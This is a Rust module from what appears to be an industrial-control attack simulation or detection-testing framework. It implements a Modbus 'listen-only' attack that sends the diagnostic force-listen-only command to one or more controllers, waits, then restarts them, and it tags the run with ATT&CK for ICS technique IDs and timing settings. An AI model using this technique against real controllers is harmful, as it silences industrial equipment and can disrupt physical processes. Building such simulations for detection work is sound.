//! Listen only: a diagnostic command makes controllers hear everything and say nothing, until another
//! wakes them.

use super::{Attack, Needs, moved};
use crate::net::reach::{DIAGNOSTICS, UNIT};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "listen-only",
    about: "silences controllers by a diagnostic command and wakes them at the end",
    technique: moved("T0804", "T1691.002"),
    acceptable: &["T0814", "T0815", "T0816"],
    grade: "A",
    kind: "fast",
    proto: "modbus",
    variants: &["one", "several"],
    needs: Needs::Sockets,
    seconds: [650, 130, 50],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let most = if stage.is("one") { 1 } else { stage.by(2, 4, 12) };
    let mut silent = Vec::new();
    for controller in stage.controllers(most) {
        let mut master = intruder.reach(controller);
        // Never a word comes back, so nothing tells whether it worked but the silence.
        if master.special(UNIT, DIAGNOSTICS, &[0, 4, 0, 0]).await.is_ok() {
            stage.changed(format!("{controller} listens only"));
            silent.push(controller);
        }
        stage.pause(stage.by(60.0, 2.0, 0.1)).await;
    }
    stage.pause(stage.by(500.0, 100.0, 15.0)).await;
    for controller in silent {
        let mut master = intruder.reach(controller);
        drop(master.restart().await);
        stage.pause(stage.by(5.0, 1.0, 0.1)).await;
    }
    // They restart before they speak again.
    stage.pause(9.0).await;
    stage.lasts();
    stage.recovers(60.0);
    Ok(())
}
